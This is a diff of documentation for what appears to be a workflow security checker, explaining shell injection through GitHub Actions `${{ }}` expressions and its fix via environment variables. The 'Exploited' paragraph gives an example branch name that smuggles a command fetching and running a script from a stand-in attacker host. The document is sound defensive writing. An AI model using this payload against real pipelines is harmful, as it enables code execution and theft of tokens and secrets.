@@ -3,14 +3,14 @@
 Why. The runner pastes what `${{ }}` stands for into a script before a shell reads it. A title of an issue, a name of a
 branch or an input that holds quotes and commands is then no text but part of the program.
 
-Exploited. Someone opens a pull request from a branch called `x";curl${IFS}evil.example|sh;"`. The job runs that command
-with its token and secrets. No review is needed for it, and no code of the pull request has to run.
+Exploited. Someone opens a pull request from a branch called `x";curl${IFS}evil.example|sh;"`. The job runs that
+command with its token and secrets. No review is needed for it, and no code of the pull request has to run.
 
 Fix. The expression becomes a variable of the step (`env`), and the script reads the variable, in quotes that keep its
 value one piece of text. Where a value may be several words on purpose, the variable stays without quotes: it can no
 longer run anything, but is still split. Values that a script hands to another program as code (`python -c`, `jq`,
-`ssh`, `eval`) stay code whatever is quoted: these are reported. At the default, what others can set is a finding;
-with the preset strict, every expression.
+`ssh`, `eval`) stay code whatever is quoted: these are reported. At the default, what others can set is a finding; with
+the preset strict, every expression.
 
 Risk. Runtime: a value that was shell syntax on purpose, such as `"a b"` with its quotes or `$HOME`, is text from now
 on.
